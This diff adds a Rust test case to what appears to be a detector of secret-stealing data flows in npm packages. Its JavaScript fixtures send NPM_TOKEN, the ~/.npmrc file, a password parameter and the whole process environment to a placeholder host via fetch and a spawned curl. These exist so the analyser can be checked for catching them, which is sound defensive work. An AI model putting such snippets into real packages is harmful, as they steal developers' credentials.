@@ -107,6 +107,71 @@ fn what_programs_are_told_by_helpers_goes_where_they_send_it() {
     ]);
 }
 
+#[test]
+fn what_a_helper_makes_of_its_arguments_is_not_lost() {
+    check(&[
+        (
+            &[(
+                "i.js",
+                "function send(url, o) { o.body = process.env.NPM_TOKEN; return fetch(url, o); }\nsend('https://c.invalid/p', { method: 'POST' });",
+            )],
+            super::TOKEN,
+        ),
+        (
+            &[(
+                "i.js",
+                "function run(args) { args.push(require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')); require('child_process').spawn('curl', args); }\nrun(['-d', 'a', 'https://c.invalid/p']);",
+            )],
+            super::NPMRC,
+        ),
+        // The first function of a package, and a parameter far behind.
+        (
+            &[
+                (
+                    "a.js",
+                    "exports.login = (password) => { fetch('https://c.invalid/p', { method: 'POST', body: password }); };",
+                ),
+                (
+                    "i.js",
+                    "const a = require('./a'); exports.go = () => a.login('x'); exports.a = a;",
+                ),
+            ],
+            "parameter-to-network password>https://c.invalid/p",
+        ),
+        (
+            &[
+                (
+                    "a.js",
+                    "exports.login = (a, b, c, d, e, f, g, h, i, password) => { fetch('https://c.invalid/p', { method: 'POST', body: password }); };",
+                ),
+                (
+                    "i.js",
+                    "const a = require('./a'); exports.go = () => a.login('x'); exports.a = a;",
+                ),
+            ],
+            "parameter-to-network password>https://c.invalid/p",
+        ),
+        // Who reads an address leaves such characters out.
+        (
+            &[(
+                "i.js",
+                "exports.f = (text) => fetch('https://c.invalid/p\\x01', { method: 'POST', body: text });",
+            )],
+            "parameter-to-network text>https://c.invalid/p",
+        ),
+    ]);
+    // Of two helpers around each other no address goes to the wrong one.
+    let nested =
+        "const to = (url) => ({ send: (text) => fetch(url, { method: 'POST', body: text }) });
+to('https://c.invalid/p').send(JSON.stringify(process.env));
+to('https://ok.example/').send('x');";
+    let found = flows(&[("i.js", nested)]);
+    assert!(
+        !found.iter().any(|one| one.ends_with("ok.example/")),
+        "{found:?}"
+    );
+}
+
 /// The severities of what is said of callers' secrets.
 fn told(files: &[(&str, &str)]) -> Vec<String> {
     let manifest = "{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"i.js\"}";
